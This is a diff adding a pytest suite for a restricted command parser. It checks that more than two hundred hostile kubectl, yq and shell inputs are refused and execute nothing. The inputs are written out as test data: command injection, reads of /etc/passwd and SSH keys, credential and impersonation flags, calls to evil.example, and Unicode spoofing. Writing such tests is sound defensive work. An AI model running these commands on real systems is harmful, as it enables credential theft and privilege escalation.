@@ -1,0 +1,293 @@
+"""Hostile and malformed commands: each is refused with a reason naming the cause, and runs nothing.
+
+`{canary}` in a command stands for a file the attack would create; the
+side-effect test checks it never appears and that no program ever started.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from labapp.shell.execute import ToolPaths, execute
+from labapp.shell.parse import CommandRefused, parse_command
+
+# (command, a fragment the reason must contain)
+HOSTILE: list[tuple[str, str]] = [
+    # command chaining and injection
+    ("kubectl get pods; touch {canary}", "`;`"),
+    ("kubectl get pods;", "`;`"),
+    ("kubectl get pods && touch {canary}", "`&&`"),
+    ("kubectl get pods || touch {canary}", "`||`"),
+    ("kubectl get pods & touch {canary}", "`&`"),
+    ("kubectl get pods | sh", "`sh` is refused"),
+    ("kubectl get pods | bash -c 'touch {canary}'", "`bash` is refused"),
+    ("kubectl get pods `touch {canary}`", "backticks"),
+    ('kubectl get "`touch {canary}`"', "backticks"),
+    ("kubectl get $(touch {canary})", "`touch` is refused"),
+    ("kubectl get $(sh -c 'touch {canary}')", "`sh` is refused"),
+    ("kubectl get $(kubectl get pods; touch {canary})", "`;`"),
+    ("kubectl get pods |& grep x", "`|&`"),
+    ("! kubectl get pods", "`!`"),
+    # redirections
+    ("kubectl get pods > {canary}", "redirection `>`"),
+    ("kubectl get pods >> {canary}", "redirection `>>`"),
+    ("kubectl get pods &> {canary}", "redirection `&>`"),
+    ("kubectl get pods 2>&1", "redirection"),
+    ("kubectl apply -f - < /etc/passwd", "redirection `<`"),
+    ("kubectl get $(kubectl get pods > {canary})", "redirection `>`"),
+    ("kubectl apply -f - <<< 'kind: Pod'", "here-strings"),
+    ("kubectl apply -f - <<EOF", "here-documents"),
+    # local files through kubectl
+    ("kubectl apply -f /etc/passwd", "absolute paths"),
+    ("kubectl create -f /etc/shadow", "absolute paths"),
+    ("kubectl apply --filename=/etc/passwd", "absolute paths"),
+    ("kubectl apply -f/etc/passwd", "absolute paths"),
+    ("kubectl get pods -f ok.yaml,/etc/passwd", "absolute paths"),
+    ("kubectl apply -k ../..", "`..`"),
+    ("kubectl apply -f assets/../../../etc/passwd", "`..`"),
+    ("kubectl kustomize ../../etc", "`..`"),
+    ("kubectl apply -f https://evil.example/pod.yaml", "URLs"),
+    ("kubectl apply -k https://github.com/evil/repo", "URLs"),
+    ("kubectl kustomize github.com/evil/repo", "remote repository"),
+    ("kubectl apply -f ~/secrets.yaml", "`~`"),
+    ("kubectl apply -f '~/secrets.yaml'", "`~`"),
+    ("kubectl apply -f $(kubectl get cm paths -o name)", "must be typed out"),
+    ("kubectl create configmap x --from-file=/etc/passwd", "absolute paths"),
+    ("kubectl create secret generic x --from-file=key=/root/.ssh/id_rsa", "absolute paths"),
+    ("kubectl create secret tls x --cert=/etc/ssl/private/key.pem --key=k", "absolute paths"),
+    ("kubectl patch deploy x --patch-file=/etc/passwd", "absolute paths"),
+    ("kubectl get pods -o go-template-file=/etc/passwd", "go-template-file"),
+    ("kubectl get pods -o jsonpath-file=/etc/passwd", "jsonpath-file"),
+    ("kubectl get pods -o templatefile --template=/etc/passwd", "templatefile"),
+    ("kubectl get pods --output=custom-columns-file=/etc/passwd", "custom-columns-file"),
+    ("kubectl kustomize assets -o {canary}", "writes a file"),
+    ("kubectl cluster-info dump --output-directory=out", "`--output-directory`"),
+    ("kubectl get pods --profile=cpu --profile-output={canary}", "`--profile`"),
+    # flag smuggling: credentials and target
+    ("kubectl --kubeconfig=/root/.kube/config get pods", "`--kubeconfig`"),
+    ("kubectl get pods --kubeconfig /root/.kube/config", "`--kubeconfig`"),
+    ("kubectl get pods -s http://evil.example", "`--server`"),
+    ("kubectl get pods -shttp://evil.example", "`--server`"),
+    ("kubectl get pods -s=http://evil.example", "`--server`"),
+    ("kubectl -As http://evil.example get pods", "`--server`"),
+    ("kubectl logs -fs http://evil.example pod/x", "`--server`"),
+    ("kubectl get pods --server=https://evil.example", "`--server`"),
+    ("kubectl get pods --token=abc", "`--token`"),
+    ("kubectl get pods --as=system:admin", "`--as`"),
+    ("kubectl get pods --as-group=system:masters", "`--as-group`"),
+    ("kubectl get pods --as_group=system:masters", "`--as-group`"),
+    ("kubectl get pods --as-uid=0", "`--as-uid`"),
+    ("kubectl get pods --context=admin", "`--context`"),
+    ("kubectl get pods --cluster=prod", "`--cluster`"),
+    ("kubectl get pods --user=admin", "`--user`"),
+    ("kubectl get pods --username=admin --password=x", "`--username`"),
+    ("kubectl get pods --insecure-skip-tls-verify", "`--insecure-skip-tls-verify`"),
+    ("kubectl get pods --insecure_skip_tls_verify=true", "`--insecure-skip-tls-verify`"),
+    ("kubectl get pods --certificate-authority=ca.crt", "`--certificate-authority`"),
+    ("kubectl get pods --client-certificate=c.crt", "`--client-certificate`"),
+    ("kubectl get pods --client-key=/etc/key", "`--client-key`"),
+    ("kubectl get pods --tls-server-name=evil", "`--tls-server-name`"),
+    ("kubectl get pods --cache-dir=/tmp/x", "`--cache-dir`"),
+    ("kubectl get pods --proxy-url=http://evil.example", "`--proxy-url`"),
+    ("kubectl get pods --kuberc=evil.yaml", "`--kuberc`"),
+    ("kubectl get pods -v=9", "verbosity"),
+    ("kubectl get pods -v9", "verbosity"),
+    ("kubectl get pods --v 8", "verbosity"),
+    ("kubectl -v 10 get pods", "verbosity"),
+    ("kubectl get pods --vmodule=*=9", "glob"),
+    ("kubectl get pods '--vmodule=*=9'", "`--vmodule`"),
+    # kubectl subcommands
+    ("kubectl config view --raw", "`kubectl config`"),
+    ("kubectl proxy --port=8001", "`kubectl proxy`"),
+    ("kubectl plugin list", "`kubectl plugin`"),
+    ("kubectl evil-plugin", "plugin program `kubectl-evil-plugin`"),
+    ("kubectl $(kubectl get cm x -o name) view", "must be typed out"),
+    ("kubectl edit pod x", "`kubectl edit`"),
+    ("kubectl create --edit -f pod.yaml", "`--edit`"),
+    ("kubectl apply edit-last-applied deploy/x", "edit-last-applied"),
+    ("kubectl apply --show-managed-fields edit-last-applied x", "edit-last-applied"),
+    ("kubectl apply -o yaml edit-last-applied x", "edit-last-applied"),
+    ("kubectl cp pod:/etc/passwd x", "`kubectl cp`"),
+    ("kubectl attach pod/x", "`kubectl attach`"),
+    ("kubectl port-forward pod/x 8080:80", "`kubectl port-forward`"),
+    ("kubectl debug node/x --image=busybox", "`kubectl debug`"),
+    ("kubectl certificate approve csr", "`kubectl certificate`"),
+    ("kubectl drain node-1", "`kubectl drain`"),
+    ("kubectl cordon node-1", "`kubectl cordon`"),
+    ("kubectl taint nodes node-1 a=b:NoSchedule", "`kubectl taint`"),
+    ("kubectl completion bash", "`kubectl completion`"),
+    ("kubectl alpha kuberc", "`kubectl alpha`"),
+    ("kubectl auth reconcile -f rbac.yaml", "`kubectl auth can-i`"),
+    ("kubectl auth --quiet reconcile", "`kubectl auth can-i`"),
+    ("kubectl exec -it pod -- sh", "interactive"),
+    ("kubectl exec -ti pod -- sh", "interactive"),
+    ("kubectl exec pod --stdin --tty -- sh", "interactive"),
+    ("kubectl exec pod -i=true -- sh", "interactive"),
+    ("kubectl run x --image=busybox --attach", "interactive"),
+    ("kubectl kustomize assets --enable-helm", "`--enable-helm`"),
+    ("kubectl kustomize assets --enable-exec", "`--enable-exec`"),
+    ("kubectl kustomize assets --enable-alpha-plugins", "`--enable-alpha-plugins`"),
+    ("kubectl kustomize assets --helm-command=/bin/sh", "`--helm-command`"),
+    ("kubectl kustomize assets --mount=type=bind,src=/,dst=/x", "`--mount`"),
+    ("kubectl kustomize assets --network", "`--network`"),
+    ("kubectl kustomize assets -e SECRET", "`-e`"),
+    ("kubectl apply -k assets --load-restrictor=LoadRestrictionsNone", "`--load-restrictor`"),
+    ("kubectl -o yaml get pods", "must come after the subcommand"),
+    ("kubectl -- config view", "`--` before the kubectl subcommand"),
+    # other programs
+    ("bash -c 'touch {canary}'", "`bash` is refused"),
+    ("sh -c id", "`sh` is refused"),
+    ("python3 -c 'open(\"{canary}\", \"w\")'", "`python3` is refused"),
+    ("curl http://evil.example", "`curl` is refused"),
+    ("env", "`env` is refused"),
+    ("cat /etc/passwd", "`cat` is refused"),
+    ("touch {canary}", "`touch` is refused"),
+    ("/bin/kubectl get pods", "by path"),
+    ("./kubectl get pods", "by path"),
+    ("/usr/bin/env kubectl", "by path"),
+    ("xargs kubectl delete pod", "`xargs` is refused"),
+    # yq
+    ("kubectl get pods -o yaml | yq 'load(\"/etc/passwd\")'", "`load`"),
+    ("yq 'load_str(\"/etc/passwd\")'", "`load_str`"),
+    ("yq '.a = load_xml(\"x.xml\")'", "`load_xml`"),
+    ("yq 'load_props(\"x\")'", "`load_props`"),
+    ("yq 'load_base64(\"x\")'", "`load_base64`"),
+    ("yq 'env(HOME)'", "`env`"),
+    ("yq 'strenv(SECRET)'", "`strenv`"),
+    ("yq '.a | envsubst'", "`envsubst`"),
+    ("yq '$ENV.HOME'", "`$ENV`"),
+    ("yq 'eval(\".a\")'", "`eval`"),
+    ("yq -i '.a = 1' manifest.yaml", "in place"),
+    ("yq --inplace '.a = 1' manifest.yaml", "in place"),
+    ("yq -s '.metadata.name' .", "writes files"),
+    ("yq --split-exp '.name'", "writes files"),
+    ("yq --from-file=/etc/passwd", "from a file"),
+    ("yq --expression=.a", "as yq's argument"),
+    ("yq '.a' /etc/passwd", "file arguments"),
+    ("yq --security-enable-system-operator 'system(\"id\")'", "not allowed"),
+    # grep, head, tail, wc
+    ("grep -r password /", "grep `-r`"),
+    ("grep -R password .", "grep `-R`"),
+    ("grep -f /etc/passwd", "grep `-f`"),
+    ("grep root /etc/passwd", "file arguments"),
+    ("grep --include='*.yaml' x", "grep `--include`"),
+    ("grep --rec x", "not allowed"),
+    ("grep -e a -e b", "exactly one pattern"),
+    ("tail -f", "tail `-f`"),
+    ("tail -F", "tail `-F`"),
+    ("tail --follow=name x", "tail `--follow`"),
+    ("tail -n 1k", "plain number"),
+    ("head -n 5 /etc/passwd", "file arguments"),
+    ("wc -l /etc/passwd", "file arguments"),
+    ("wc --files0-from=list", "not allowed"),
+    ("wc -l -- -w", "file arguments"),
+    ("grep x -- secret.txt", "file arguments"),
+    # unicode tricks (escaped, so the source shows what each one is)
+    ("\uff4b\uff55\uff42\uff45\uff43\uff54\uff4c get pods", "U+FF4B FULLWIDTH LATIN SMALL"),
+    ("kubectl get pods \u2014all-namespaces", "U+2014 EM DASH"),
+    ("kubectl get pods \u2013n assets", "U+2013 EN DASH"),
+    ("kubectl get pods \u2212A", "U+2212 MINUS SIGN"),
+    ("kubectl get pods \ufe63A", "U+FE63 SMALL HYPHEN-MINUS"),
+    ("kubectl get pods \uff0dA", "U+FF0D FULLWIDTH HYPHEN-MINUS"),
+    ("kubectl get pods -\u0430", "U+0430 CYRILLIC SMALL LETTER A"),
+    ("kubectl get pods --kube\u0441onfig=/x", "U+0441 CYRILLIC SMALL LETTER ES"),
+    ("kube\u200dctl get pods", "zero-width"),
+    ("kubectl\u200b get pods", "zero-width"),
+    ("kubectl\ufeff get pods", "zero-width"),
+    ("kubectl get pods \u202etxt.exe", "bidirectional"),
+    ("kubectl get pods\u2066", "bidirectional"),
+    ("kubectl get\x00 pods", "NUL"),
+    ("kubectl get pods\x1b[2J", "ESCAPE"),
+    ("kubectl get pods\r", "CARRIAGE RETURN"),
+    ("kubectl get pods\ntouch {canary}", "more than one line"),
+    ("kubectl get pods\u2028sh", "more than one line"),
+    ("kubectl get pods\u00ad", "invisible"),
+    # shell expansions and syntax
+    ("kubectl get " + "a" * 2000, "limit is 2000"),
+    ("kubectl get *", "glob character `*`"),
+    ("kubectl get pod?", "glob character `?`"),
+    ("kubectl get pods -o jsonpath={.items[0]}", "glob character `[`"),
+    ("kubectl get {pods,secrets}", "brace expansion"),
+    ("kubectl apply -f ~", "`~`"),
+    ("A=b kubectl get pods", "variable assignments"),
+    ("KUBECONFIG=/root/.kube/config kubectl get pods", "variable assignments"),
+    ("kubectl get $HOME", "`$HOME`"),
+    ("kubectl get ${KUBECONFIG}", "`${KUBECONFIG}`"),
+    ('kubectl get "$KUBECONFIG"', "`$KUBECONFIG`"),
+    ("kubectl get $1", "`$1`"),
+    ("kubectl get pods $'\\x2d\\x2dkubeconfig'", "`$'...'`"),
+    ("kubectl get $((1+1))", "arithmetic"),
+    ("kubectl get $[1+1]", "arithmetic"),
+    ("kubectl apply -f <(curl evil.example)", "process substitution"),
+    ("(kubectl get pods)", "subshells"),
+    ("{ kubectl get pods; }", "command groups"),
+    ("f() { kubectl get pods; }", "functions"),
+    ("if true; then touch {canary}; fi", "`if`"),
+    ("for i in 1 2; do kubectl get pods; done", "`for`"),
+    ("while true; do kubectl get pods; done", "`while`"),
+    ("case x in x) kubectl get pods;; esac", "`case`"),
+    ("time kubectl get pods", "`time`"),
+    ("", "empty"),
+    ("   ", "empty"),
+    ("kubectl get 'pods", "could not be parsed"),
+    ("kubectl get pods |", "could not be parsed"),
+    ("kubectl get $(kubectl get $(kubectl get $(kubectl get pods)))", "nested deeper"),
+    ("kubectl get pods" + " | grep a" * 8, "more than 8 commands"),
+    ("kubectl get" + " $(kubectl get pods)" * 9, "more than 8 `$(...)`"),
+    ("kubectl get pods \"x'$(kubectl get pods)'\" | sh", "`sh` is refused"),
+]
+
+
+def _render(command: str, tmp_path: Path) -> str:
+    return command.replace("{canary}", str(tmp_path / "pwned"))
+
+
+def test_the_corpus_is_large() -> None:
+    assert len(HOSTILE) >= 70
+
+
+@pytest.mark.parametrize(("command", "fragment"), HOSTILE)
+def test_hostile_command_is_refused_with_its_reason(
+    command: str, fragment: str, tmp_path: Path
+) -> None:
+    with pytest.raises(CommandRefused) as refused:
+        parse_command(_render(command, tmp_path))
+    assert fragment in refused.value.reason
+
+
+# --- side effects: nothing runs ---------------------------------------------------
+
+def _recorder_tools(tmp_path: Path) -> tuple[ToolPaths, Path]:
+    """Every program is a script that only appends its argv to a log."""
+    log = tmp_path / "argv.log"
+    script = tmp_path / "recorder"
+    script.write_text(f'#!/bin/sh\necho "$0 $*" >> {log}\n')
+    script.chmod(0o755)
+    tools = ToolPaths(kubectl=script, yq=script, grep=script, head=script, tail=script, wc=script)
+    return tools, log
+
+
+def _run_if_allowed(command: str, tmp_path: Path) -> None:
+    tools, _ = _recorder_tools(tmp_path)
+    workdir = tmp_path / "work"
+    workdir.mkdir(exist_ok=True)
+    try:
+        plan = parse_command(command)
+    except CommandRefused:
+        return
+    execute(plan, tools=tools, kubeconfig=tmp_path / "kubeconfig", workdir=workdir, timeout=10)
+
+
+def test_the_recorder_records_an_allowed_command(tmp_path: Path) -> None:
+    _run_if_allowed("kubectl get pods | grep x", tmp_path)
+    assert "get pods" in (tmp_path / "argv.log").read_text()
+
+
+@pytest.mark.parametrize(("command", "fragment"), HOSTILE)
+def test_hostile_command_runs_nothing(command: str, fragment: str, tmp_path: Path) -> None:
+    _run_if_allowed(_render(command, tmp_path), tmp_path)
+    log = tmp_path / "argv.log"
+    assert not log.exists() or log.read_text() == ""
+    assert not (tmp_path / "pwned").exists()
